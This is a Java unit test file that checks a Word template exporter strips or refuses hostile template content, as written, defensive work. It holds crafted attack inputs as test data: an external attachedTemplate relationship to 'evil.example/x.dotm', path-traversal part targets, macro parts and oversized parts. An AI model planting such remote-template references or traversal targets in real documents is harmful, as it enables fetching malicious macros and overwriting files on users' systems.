package org.rubric.interchange.word.template;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import java.util.zip.ZipFile;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// What a hostile template tries does not reach the files that are made of it.
class DefencesTest {
    private static final String MACROS =
            "The template holds macros; save it as Word document (.docx) first.";
    private static final String TIES = "word/_rels/document.xml.rels";
    private static final String TYPES = TemplateFile.TYPES;
    @TempDir Path folder;

    private Path filled(Template template) throws IOException {
        var out = folder.resolve("out.docx");
        TemplateExporterTest.fill(template.write(folder.resolve("t.docx")), out);
        return out;
    }

    private String refused(Template template) {
        return assertThrows(IOException.class, () -> filled(template)).getMessage();
    }

    private static void change(Template template, String part, String from, String to) {
        var old = new String(template.parts.get(part), StandardCharsets.UTF_8);
        assertTrue(old.contains(from), old);
        template.put(part, old.replace(from, to));
    }

    private static List<String> names(Path file) throws IOException {
        try (var zip = new ZipFile(file.toFile())) {
            return Collections.list(zip.entries()).stream().map(e -> e.getName()).toList();
        }
    }

    @Test
    void macrosAreKnownHoweverTheyAreSpelled() {
        var part = Template.official();
        part.put("word/VbaProject.BIN", "x");
        assertEquals(MACROS, refused(part));
        var type = Template.official();
        change(
                type,
                TYPES,
                "openxmlformats-officedocument.wordprocessingml.styles",
                "MACROENABLED");
        var xml = new String(type.parts.get(TYPES), StandardCharsets.UTF_8);
        var prologue = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>";
        type.parts.put(TYPES, (prologue + xml).getBytes(StandardCharsets.UTF_16));
        assertEquals(MACROS, refused(type));
    }

    @Test
    void noTemplateIsFetchedFromElsewhere() throws IOException {
        var template = Template.official();
        template.put(
                "word/settings.xml",
                "<w:settings xmlns:w=\""
                        + Template.W
                        + "\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                        + "relationships\"><w:attachedTemplate r:id=\"rId1\"/><w:zoom w:percent=\"90\"/>"
                        + "</w:settings>");
        template.put(
                "word/_rels/settings.xml.rels",
                "<Relationships xmlns=\""
                        + Relationships.SPACE
                        + "\"><Relationship Id=\"rId1\" Type=\""
                        + Relationships.TYPES
                        + "attachedTemplate\" Target=\"http://evil.example/x.dotm\""
                        + " TargetMode=\"External\"/></Relationships>");
        var out = filled(template);
        var settings = TemplateExporterTest.part(out, "word/settings.xml");
        assertTrue(!settings.contains("attached") && settings.contains("zoom"), settings);
        var ties = TemplateExporterTest.part(out, "word/_rels/settings.xml.rels");
        assertFalse(ties.contains("evil"), ties);
    }

    @Test
    void theFileSaysWhatTheTextIs() throws IOException {
        var out = filled(Template.official());
        var core = TemplateExporterTest.part(out, "docProps/core.xml");
        assertTrue(core.contains("<dc:title>Warning of floods</dc:title>"), core);
        var root = TemplateExporterTest.part(out, "_rels/.rels");
        assertTrue(root.contains("docProps/core.xml"), root);
        assertTrue(TemplateExporterTest.part(out, TYPES).contains("core-properties+xml"));
        var again = folder.resolve("again.docx");
        TemplateExporterTest.fill(out, again);
        assertEquals(
                2, TemplateExporterTest.part(again, "_rels/.rels").split("core.xml", -1).length);
    }

    @Test
    void whatLiesOutsideIsRefused() {
        for (var target : List.of("../../evil.xml", "/../evil.xml", "..\\..\\evil.xml", "c:/x")) {
            var template = Template.official();
            change(template, TIES, "\"styles.xml\"", "\"" + target + "\"");
            assertEquals(
                    "The template names a part outside of itself; it is not a genuine Word"
                            + " document.",
                    refused(template));
        }
    }

    @Test
    void aTargetThatLeadsNowhereIsUsed() throws IOException {
        var template = Template.official();
        change(template, TIES, "\"styles.xml\"", "\"../looks/./styles.xml\"");
        var out = filled(template);
        assertTrue(names(out).contains("looks/styles.xml"), names(out).toString());
        assertTrue(names(out).stream().noneMatch(n -> n.contains("..")), names(out).toString());
        var ties = TemplateExporterTest.part(out, TIES);
        assertEquals(2, ties.split("relationships/styles\"", -1).length, ties);
        assertTrue(TemplateExporterTest.part(out, TYPES).contains("\"/looks/styles.xml\""));
    }

    @Test
    void namesOfPartsDifferInMoreThanCase() throws IOException {
        var template = Template.official();
        change(template, TIES, "\"styles.xml\"", "\"Styles.XML\"");
        var out = filled(template);
        assertTrue(TemplateExporterTest.part(out, "word/styles.xml").contains("Georgia"));
        assertFalse(names(out).contains("word/Styles.XML"));
    }

    @Test
    void aTemplateOfWordBecomesADocument() throws IOException {
        var template = Template.official();
        change(template, TYPES, "document.main+xml", "template.main+xml");
        var out = folder.resolve("out.docx");
        TemplateExporterTest.fill(template.write(folder.resolve("t.dotx")), out);
        var types = TemplateExporterTest.part(out, TYPES);
        assertTrue(types.contains("wordprocessingml.document.main+xml"), types);
        assertFalse(types.contains("template.main"), types);
    }

    @Test
    void largePartsAreRefused() {
        var template = Template.official();
        var letters = new byte[12 << 20];
        new Random(1).nextBytes(letters);
        var noise = java.util.Base64.getEncoder().encodeToString(letters);
        change(template, "word/styles.xml", "</w:styles>", "<!--" + noise + "--></w:styles>");
        assertEquals(
                "A part of the template is larger than 16 MB: word/styles.xml.", refused(template));
        var many = Template.official();
        for (int i = 0; i < 11; i++) many.parts.put("customXml/noise" + i + ".bin", letters);
        assertEquals("The parts of the template are larger than 128 MB.", refused(many));
    }
}
